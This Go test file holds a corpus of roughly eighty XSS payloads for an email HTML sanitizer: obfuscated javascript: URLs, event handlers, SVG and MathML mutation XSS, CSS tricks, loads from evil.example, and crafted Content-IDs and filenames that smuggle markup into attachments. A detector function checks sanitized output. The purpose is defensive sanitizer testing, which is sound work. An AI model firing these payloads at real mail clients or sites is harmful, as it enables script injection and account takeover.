package corpus

import (
	"encoding/base64"
	"fmt"
	"strings"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// XSSPayload is a hostile HTML mail body for the sanitizer, with the parts
// (attachments) it needs when it attacks through a Content-ID or a filename.
type XSSPayload struct {
	Name  string
	HTML  string
	Parts []XSSPart
}

// XSSPart is an image attachment of an XSSPayload's message.
type XSSPart struct {
	ContentID string // without angle brackets
	Filename  string // "" for none
	// ContentType defaults to image/gif.
	ContentType string
}

// XSSPayloads returns the corpus: script, event handlers, dangerous URL
// schemes plain and obfuscated, foreign content, frames and forms, CSS,
// mutation XSS that relies on a sanitizer and a browser parsing the same
// bytes differently, and crafted Content-IDs and filenames for the cid:
// rewriting. Every payload must come out of the served body with nothing
// UnsafeHTML reports. A new slice each call: callers may change it.
func XSSPayloads() []XSSPayload {
	const svgScript = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=" // <svg xmlns=… onload="alert(1)"/>
	p := func(name, html string, parts ...XSSPart) XSSPayload {
		return XSSPayload{Name: name, HTML: html, Parts: parts}
	}
	return []XSSPayload{
		p("script", `<script>alert(1)</script>`),
		p("script src upper", `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`),
		p("script split", `<scr<script>ipt>alert(1)</scr</script>ipt>`),
		p("img onerror", `<img src=x onerror=alert(1)>`),
		p("img onerror mixed case", `<IMG SRC=x oNeRrOr=alert(1)>`),
		p("img slash separators", `<img/src=x/onerror=alert(1)>`),
		p("img spaced handler", `<img src="x" onerror ="alert(1)">`),
		p("allowed src, handler", `<img src="cid:x" onerror=alert(1) onload=alert(2)>`),
		p("data image onload", `<img src="data:image/png;base64,R0lGODlhAQABAAAAACw=" onload=alert(1)>`),
		p("body onload", `<body onload=alert(1)>x</body>`),
		p("details ontoggle", `<details open ontoggle=alert(1)><summary>x</summary></details>`),
		p("marquee onstart", `<marquee onstart=alert(1)>x</marquee>`),
		p("video source onerror", `<video><source onerror=alert(1)></video>`),
		p("frameset onload", `<frameset onload=alert(1)>`),
		p("title breakout", `<p id="a" title="&quot; onmouseover=alert(1) x=&quot;">x</p>`),

		p("a javascript", `<a href="javascript:alert(1)">x</a>`),
		p("a javascript tab entity", `<a href="jav&#x09;ascript:alert(1)">x</a>`),
		p("a javascript newline entity", `<a href="jav&#x0A;ascript:alert(1)">x</a>`),
		p("a javascript raw tab", "<a href=\"java\tscript:alert(1)\">x</a>"),
		p("a javascript decimal entities", `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`),
		p("a javascript padded entity", `<a href="java&#0000115;cript:alert(1)">x</a>`),
		p("a javascript hex first", `<a href="&#x6A;avascript:alert(1)">x</a>`),
		p("a javascript colon entity", `<a href="javascript&colon;alert(1)">x</a>`),
		p("a javascript case and space", `<a href="  JaVaScRiPt:alert(1)">x</a>`),
		p("a javascript leading control", `<a href="&#x01;javascript:alert(1)">x</a>`),
		p("a vbscript", `<a href="vbscript:msgbox(1)">x</a>`),
		p("a data html", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`),
		p("a data image", `<a href="data:image/png;base64,R0lGODlhAQABAAAAACw=">x</a>`),
		p("a data svg", `<a href="data:image/svg+xml;base64,`+svgScript+`">x</a>`),
		p("img data svg", `<img src="data:image/svg+xml;base64,`+svgScript+`">`),
		p("img data svg upper", `<img src="DATA:image/svg+xml;base64,`+svgScript+`">`),
		p("img data html", `<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`),
		p("img javascript", `<img src="javascript:alert(1)">`),
		p("img srcset javascript", `<img srcset="javascript:alert(1) 1x">`),
		p("blockquote cite javascript", `<blockquote cite="javascript:alert(1)">x</blockquote>`),

		p("svg onload", `<svg onload=alert(1)>`),
		p("svg script", `<svg><script>alert(1)</script></svg>`),
		p("svg animate href", `<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>X</text></a></svg>`),
		p("svg use data", `<svg><use xlink:href="data:image/svg+xml;base64,`+svgScript+`#x"/></svg>`),
		p("svg cdata", `<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>`),
		p("svg style mxss", `<svg><style><img src=x onerror=alert(1)></style></svg>`),
		p("math xlink href", `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">X</maction></math>`),
		p("math href", `<math href="javascript:alert(1)"><mi>x</mi></math>`),
		p("math mglyph style", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`),
		p("math mtext style", `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>`),

		p("iframe srcdoc", `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`),
		p("iframe javascript", `<iframe src="javascript:alert(1)"></iframe>`),
		p("object data", `<object data="javascript:alert(1)"></object>`),
		p("embed svg", `<embed src="data:image/svg+xml;base64,`+svgScript+`">`),
		p("base href", `<base href="javascript:alert(1)//"><a href="x">x</a>`),
		p("meta refresh", `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`),
		p("link stylesheet", `<link rel=stylesheet href="https://evil.example/x.css">`),
		p("form action", `<form action="javascript:alert(1)"><input type=submit></form>`),
		p("button formaction", `<button formaction="javascript:alert(1)">x</button>`),
		p("isindex", `<isindex action=javascript:alert(1) type=image>`),

		p("style attr url", `<div style="background:url(javascript:alert(1))">x</div>`),
		p("style attr escaped url", `<div style="background:u\72l(https://evil.example/t.gif)">x</div>`),
		p("style attr expression", `<div style="width:expression(alert(1))">x</div>`),
		p("style attr behavior", `<a href="https://ok.example/" style="behavior:url(x.htc)">x</a>`),
		p("style element", `<style>body{background:url("javascript:alert(1)")}</style>x`),
		p("style import", `<style>@import 'https://evil.example/x.css';</style>x`),

		p("noscript mxss", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`),
		p("template script", `<template><script>alert(1)</script></template>`),
		p("template style mxss", `<template><style></template><img src=x onerror=alert(1)></style></template>`),
		p("select style mxss", `<select><style></select><img src=x onerror=alert(1)></style></select>`),
		p("title rcdata", `<title></title><img src=x onerror=alert(1)></title>`),
		p("textarea", `<textarea></textarea><img src=x onerror=alert(1)>`),
		p("xmp", `<xmp><img src=x onerror=alert(1)></xmp>`),
		p("plaintext", `<plaintext><img src=x onerror=alert(1)>`),
		p("comment breakout", `<!--><img src=x onerror=alert(1)>-->`),
		p("comment bang", `<!-- --!><img src=x onerror=alert(1)> -->`),
		p("bogus comment", `<? x ><img src=x onerror=alert(1)>?>`),

		// The cid: rewriting. The first is issue 13's: a string replace
		// after sanitizing turned cid:Q" into a URL that swallowed the
		// closing quote, and the next image's src became an onerror.
		p("content-id swallows quote", `<img src="cid:Q"><img src="cid:x/onerror=alert(1)//">`, XSSPart{ContentID: `Q"`}),
		p("content-id breaks out", `<img src="cid:&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"><img src="cid:x">`,
			XSSPart{ContentID: `"><script>alert(1)</script>`}, XSSPart{ContentID: "x"}),
		p("content-id is a handler", `<img src="cid:x/onerror=alert(1)//">x`, XSSPart{ContentID: `x/onerror=alert(1)//`}),
		p("content-id quote handler", `<img src="cid:logo@x&quot; onerror=&quot;alert(1)">`, XSSPart{ContentID: `logo@x" onerror="alert(1)`}),
		p("content-id with spaces", `<img src="cid:a b"><img src="cid:a%20b">`, XSSPart{ContentID: "a b"}),
		p("content-id angle brackets", `<img src="cid:&lt;evil&gt;"><img src="cid:%3Cevil%3E">`, XSSPart{ContentID: "<evil>"}),
		p("content-id javascript", `<img src="cid:javascript:alert(1)">`, XSSPart{ContentID: "javascript:alert(1)"}),
		p("content-id prefix", `<img src="cid:p&quot;onerror=&quot;alert(1)">`, XSSPart{ContentID: "p"}),
		p("filename markup", `<img src="cid:f@x" alt="x">`, XSSPart{ContentID: "f@x", Filename: `"><img src=x onerror=alert(1)>.gif`}),
		p("filename javascript", `<a href="cid:g@x">x</a><img src="cid:g@x">`, XSSPart{ContentID: "g@x", Filename: "javascript:alert(1).gif"}),
		p("suspicious part", `<img src="cid:run@x">`, XSSPart{ContentID: "run@x", Filename: "run.exe", ContentType: "application/x-msdownload"}),
	}
}

// Message returns p as a raw message: multipart/related with the HTML
// (base64, so every byte of it arrives) and each part as a tiny image.
func (p XSSPayload) Message(messageID string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "From: Mallory <mallory@example.com>\r\nTo: inbox@localhost\r\nMessage-ID: <%s>\r\nSubject: %s\r\n", messageID, p.Name)
	b.WriteString("MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"=_xss\"\r\n\r\n")
	b.WriteString("--=_xss\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n")
	b.WriteString(base64.StdEncoding.EncodeToString([]byte(p.HTML)) + "\r\n")
	for _, part := range p.Parts {
		ct := part.ContentType
		if ct == "" {
			ct = "image/gif"
		}
		fmt.Fprintf(&b, "--=_xss\r\nContent-Type: %s\r\nContent-Transfer-Encoding: base64\r\nContent-ID: <%s>\r\n", ct, part.ContentID)
		b.WriteString("Content-Disposition: inline")
		if part.Filename != "" {
			b.WriteString("; filename*=utf-8''" + percentEncode(part.Filename))
		}
		b.WriteString("\r\n\r\nR0lGODlhAQABAAAAACw=\r\n")
	}
	b.WriteString("--=_xss--\r\n")
	return b.String()
}

// percentEncode is RFC 2231's encoding of a parameter value: everything
// but letters, digits and a few marks as %XX.
func percentEncode(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if 'a' <= c && c <= 'z' || 'A' <= c && c <= 'Z' || '0' <= c && c <= '9' || strings.IndexByte("-._~", c) >= 0 {
			b.WriteByte(c)
		} else {
			fmt.Fprintf(&b, "%%%02X", c)
		}
	}
	return b.String()
}

// unsafeElements run script, load a document or a stylesheet, submit, or
// change how the rest of the page resolves URLs.
var unsafeElements = map[atom.Atom]bool{
	atom.Script: true, atom.Style: true, atom.Iframe: true, atom.Frame: true, atom.Frameset: true,
	atom.Object: true, atom.Embed: true, atom.Applet: true, atom.Param: true, atom.Base: true,
	atom.Meta: true, atom.Link: true, atom.Form: true, atom.Template: true,
}

// urlAttrs are the attributes a browser resolves as a URL (srcset holds
// several).
var urlAttrs = map[string]bool{
	"href": true, "src": true, "action": true, "formaction": true, "srcset": true, "background": true,
	"poster": true, "data": true, "codebase": true, "cite": true, "longdesc": true, "lowsrc": true,
	"dynsrc": true, "ping": true, "manifest": true, "icon": true, "usemap": true, "classid": true, "archive": true,
}

// UnsafeHTML parses s as a browser would (the HTML5 algorithm, once with
// scripting on and once off, as a sandboxed frame without allow-scripts
// parses <noscript>) and reports, one line each, what in the tree could
// run script or load something the policy never allowed: an element from
// unsafeElements, any SVG or MathML element, an on* or srcdoc attribute, a
// URL attribute whose scheme is javascript:, vbscript:, livescript: or
// data: (data:image/ other than SVG is allowed on img src only), and CSS
// url(), expression(), behavior or -moz-binding in a style attribute. It
// reports nothing for safe HTML. The body route's tests and the console's
// frame route share it.
func UnsafeHTML(s string) []string {
	var out []string
	seen := map[string]bool{}
	for _, scripting := range []bool{true, false} {
		doc, err := html.ParseWithOptions(strings.NewReader(s), html.ParseOptionEnableScripting(scripting))
		if err != nil {
			return []string{"does not parse: " + err.Error()}
		}
		for _, f := range unsafeNodes(doc) {
			if !seen[f] {
				seen[f] = true
				out = append(out, f)
			}
		}
	}
	return out
}

func unsafeNodes(n *html.Node) []string {
	var out []string
	if n.Type == html.ElementNode {
		switch {
		case n.Namespace != "":
			out = append(out, fmt.Sprintf("<%s> in %s", n.Data, n.Namespace))
		case unsafeElements[n.DataAtom]:
			out = append(out, fmt.Sprintf("<%s>", n.Data))
		}
		for _, a := range n.Attr {
			if f := unsafeAttr(n, a); f != "" {
				out = append(out, fmt.Sprintf("<%s %s>: %s", n.Data, attrName(a), f))
			}
		}
	}
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		out = append(out, unsafeNodes(c)...)
	}
	return out
}

func attrName(a html.Attribute) string {
	if a.Namespace != "" {
		return a.Namespace + ":" + a.Key
	}
	return a.Key
}

func unsafeAttr(n *html.Node, a html.Attribute) string {
	key := strings.ToLower(a.Key)
	switch {
	case strings.HasPrefix(key, "on"):
		return "event handler"
	case key == "srcdoc":
		return "inline document"
	case key == "style":
		if f := unsafeCSS(a.Val); f != "" {
			return f
		}
	case key == "srcset":
		for _, c := range strings.Split(a.Val, ",") {
			if f := unsafeURL(n, "srcset", strings.Fields(c + " x")[0]); f != "" {
				return f
			}
		}
	case urlAttrs[key] || a.Namespace == "xlink" && key == "href":
		return unsafeURL(n, key, a.Val)
	}
	return ""
}

// unsafeURL normalises v as a URL parser does before it reads the scheme
// (leading and trailing C0 controls and spaces trimmed, tabs and newlines
// removed anywhere, case folded): the parser has already decoded
// character references.
func unsafeURL(n *html.Node, key, v string) string {
	v = strings.TrimFunc(v, func(r rune) bool { return r <= ' ' })
	v = strings.Map(func(r rune) rune {
		if r == '\t' || r == '\n' || r == '\r' {
			return -1
		}
		return r
	}, v)
	v = strings.ToLower(v)
	for _, bad := range []string{"javascript:", "vbscript:", "livescript:"} {
		if strings.HasPrefix(v, bad) {
			return "scheme " + bad
		}
	}
	if strings.HasPrefix(v, "data:") {
		if n.DataAtom == atom.Img && n.Namespace == "" && key == "src" &&
			strings.HasPrefix(v, "data:image/") && !strings.HasPrefix(v, "data:image/svg") {
			return ""
		}
		return "scheme data:"
	}
	return ""
}

// unsafeCSS looks through CSS comments, escapes and whitespace, which
// browsers skip or decode, for what fetches or runs something.
func unsafeCSS(v string) string {
	var b strings.Builder
	for i := 0; i < len(v); i++ {
		switch c := v[i]; {
		case c == '/' && i+1 < len(v) && v[i+1] == '*':
			if end := strings.Index(v[i+2:], "*/"); end >= 0 {
				i += end + 3
			} else {
				i = len(v)
			}
		case c == '\\' || c <= ' ':
		default:
			b.WriteByte(c)
		}
	}
	css := strings.ToLower(b.String())
	for _, bad := range []string{"url(", "expression(", "behavior:", "-moz-binding", "@import", "javascript:"} {
		if strings.Contains(css, bad) {
			return "CSS " + bad
		}
	}
	// A CSS escape such as u\72l( decodes to url(.
	if strings.Contains(strings.ToLower(v), `\`) {
		return "CSS escape"
	}
	return ""
}
